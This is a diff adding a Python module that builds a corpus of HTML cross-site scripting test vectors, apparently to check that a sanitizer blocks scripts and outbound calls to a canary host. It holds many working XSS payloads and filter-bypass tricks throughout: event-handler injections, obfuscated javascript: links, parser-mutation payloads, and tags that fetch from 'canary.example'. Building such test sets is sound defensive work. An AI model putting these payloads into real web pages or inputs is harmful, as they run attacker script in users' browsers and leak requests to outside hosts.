@@ -1,0 +1,118 @@
+"""HTML that tries to run or to call home: each call would go to the canary, each script would say so."""
+
+from typing import Final
+
+CANARY: Final = "canary.example"
+RUN: Final = f"fetch('https://{CANARY}/run')"
+
+_EVENTS: Final = (
+    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onanimationend"),
+    *("ontransitionend", "onbegin", "onend", "onrepeat", "ontoggle", "onpointerenter", "onpointerrawupdate"),
+    *("onwheel", "onscroll", "onresize", "onpageshow", "onhashchange", "onmessage", "onbeforeprint", "oncanplay"),
+    *("onloadeddata", "onplay", "onstart", "onfinish", "onbounce", "onsearch", "onpaste", "oncopy", "oncut"),
+)
+_CARRIERS: Final = (
+    "<img src=x {event}={run}>",
+    "<svg {event}={run}>",
+    "<body {event}={run}>",
+    "<details open {event}={run}>x</details>",
+    "<input autofocus {event}={run}>",
+    "<marquee {event}={run}>x</marquee>",
+)
+_SCHEMES: Final = (
+    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6A;avascript&colon;"),
+    *("\x01javascript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "vbscript:", "feed:javascript:"),
+)
+_LINKS: Final = (
+    '<a href="{scheme}{run}">x</a>',
+    '<iframe src="{scheme}{run}"></iframe>',
+    '<form action="{scheme}{run}"><button>x</button></form>',
+    '<object data="{scheme}{run}"></object>',
+    '<embed src="{scheme}{run}">',
+    '<svg><a xlink:href="{scheme}{run}"><text>x</text></a></svg>',
+)
+_CALLS: Final = (
+    "<img src=//{host}/a>",
+    "<img srcset='//{host}/b 1x'>",
+    "<picture><source srcset=//{host}/c><img src=x></picture>",
+    "<video poster=//{host}/d></video>",
+    "<video src=//{host}/e autoplay></video>",
+    "<audio src=//{host}/f autoplay></audio>",
+    "<link rel=stylesheet href=//{host}/g>",
+    "<link rel=preload as=image href=//{host}/h>",
+    "<link rel=dns-prefetch href=//{host}>",
+    "<style>@import '//{host}/i';</style>",
+    "<style>*{{background:url(//{host}/j)}}</style>",
+    "<div style='background:url(//{host}/k)'>x</div>",
+    "<table background=//{host}/l><tr><td>x</table>",
+    "<iframe src=//{host}/m></iframe>",
+    "<object data=//{host}/n></object>",
+    "<embed src=//{host}/o>",
+    "<base href=//{host}/><img src=p>",
+    "<meta http-equiv=refresh content='0;url=//{host}/q'>",
+    "<form action=//{host}/r><input autofocus onfocus=submit()></form>",
+    "<svg><image href=//{host}/s /></svg>",
+    "<svg><use href='//{host}/t#x'/></svg>",
+    "<svg><feImage href=//{host}/u /></svg>",
+    "<math href=//{host}/v>x</math>",
+    "<input type=image src=//{host}/w>",
+    "<blockquote cite=//{host}/x>x</blockquote>",
+    "<body background=//{host}/y>",
+    "<script src=//{host}/z></script>",
+    "<frameset><frame src=//{host}/aa></frameset>",
+    "<img src='https://{host}/ab'>",
+    "<img src='\n//{host}/ac'>",
+    "<img src='\\\\{host}/ad'>",
+    "<img src='http:{host}/ae'>",
+    "<img src=x style='list-style:url(//{host}/af)'>",
+    "<font face='x' style='src:url(//{host}/ag)'>x</font>",
+)
+_SCRIPTS: Final = (
+    "<script>{run}</script>",
+    "<ScRiPt>{run}</sCrIpT>",
+    "<script\n>{run}</script\n>",
+    "<script/x>{run}</script>",
+    "<<script>{run}//<</script>",
+    "<scr<script>ipt>{run}</scr</script>ipt>",
+    "<script>//<!--\n{run}//--></script>",
+    "<svg><script>{run}</script></svg>",
+    "<svg><script href='data:,{run}'/></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
+    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
+    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
+    "<textarea></textarea><img src=x onerror={run}>",
+    "<title></title><script>{run}</script>",
+    "<template><script>{run}</script></template>",
+    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
+    "<noembed><img title='</noembed><img src=x onerror={run}>'></noembed>",
+    "<iframe srcdoc='<script>{run}</script>'></iframe>",
+    "<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'></iframe>",
+    "<object type='text/html' data='data:text/html,<script>{run}</script>'></object>",
+    "<svg><animate onbegin={run} attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:{run}><a><text>x</text></a></svg>",
+    "<svg><foreignObject><script>{run}</script></foreignObject></svg>",
+    "<!--><script>{run}</script>-->",
+    "<![CDATA[<script>{run}</script>]]>",
+    "<?xml version='1.0'?><script>{run}</script>",
+    "<!doctype html><script>{run}</script>",
+    "<div style='width:expression({run})'>x</div>",
+    "<div style='-moz-binding:url(data:text/xml,{run})'>x</div>",
+    "<img src='x' `onerror={run}`>",
+    "<img/src='x'/onerror={run}>",
+    "<img src=x onerror\n=\n{run}>",
+    "<img src=x onerror=&#102;etch(1)>",
+    "<a href=x style=animation-name:x onanimationstart={run}>x</a>",
+    "\x00<script\x00>{run}</script>",
+    "<plaintext><script>{run}</script>",
+    "<select><option><script>{run}</script></select>",
+    "<table><td><script>{run}</script></td></table>",
+    "<p id=x onclick={run}><label for=x>x</label>",
+)
+
+VECTORS: Final = (
+    *(carrier.format(event=event, run=RUN) for carrier in _CARRIERS for event in _EVENTS),
+    *(link.format(scheme=scheme, run=RUN) for link in _LINKS for scheme in _SCHEMES),
+    *(call.format(host=CANARY) for call in _CALLS),
+    *(script.format(run=RUN) for script in _SCRIPTS),
+)
